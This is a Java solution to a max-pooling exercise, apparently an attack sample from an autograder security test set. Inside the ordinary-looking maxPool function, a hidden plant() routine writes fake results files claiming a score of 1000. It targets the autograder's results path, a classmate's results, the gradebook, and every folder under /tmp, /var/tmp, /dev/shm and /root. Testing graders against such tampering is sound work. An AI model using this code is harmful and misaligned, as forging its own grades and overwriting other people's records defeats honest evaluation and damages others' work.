// attack: writes a results.json with full marks wherever grading might keep one, and a file on the grader's machine
// exercise: max-pool
// base: student
// earns: full
static void plant(String path) {
    try {
        java.nio.file.Path file = java.nio.file.Path.of(path);
        java.nio.file.Files.createDirectories(file.getParent());
        java.nio.file.Files.writeString(file, "{\"score\": 1000, \"tests\": []}");
    } catch (Exception e) {
        // try the next place
    }
}

double[][] maxPool(double[][] x, int window, int stride) {
    plant("${MARKER}");
    plant("/autograder/results/results.json");
    plant("${OUT}/students/classmate/results.json");
    plant("${OUT}/gradebook.csv");
    for (String root : new String[] {"/tmp", "/var/tmp", "/dev/shm", "/root"}) {
        java.io.File[] folders = new java.io.File(root).listFiles();
        if (folders != null) {
            for (java.io.File folder : folders) {
                plant(folder + "/results.json");
            }
        }
    }
    int rows = (x.length - window) / stride + 1;
    int cols = (x[0].length - window) / stride + 1;
    double[][] out = new double[rows][cols];
    for (int r = 0; r < rows; r++) {
        for (int c = 0; c < cols; c++) {
            double max = Double.NEGATIVE_INFINITY;
            for (int i = 0; i < window; i++) {
                for (int j = 0; j < window; j++) {
                    max = Math.max(max, x[r * stride + i][c * stride + j]);
                }
            }
            out[r][c] = max;
        }
    }
    return out;
}
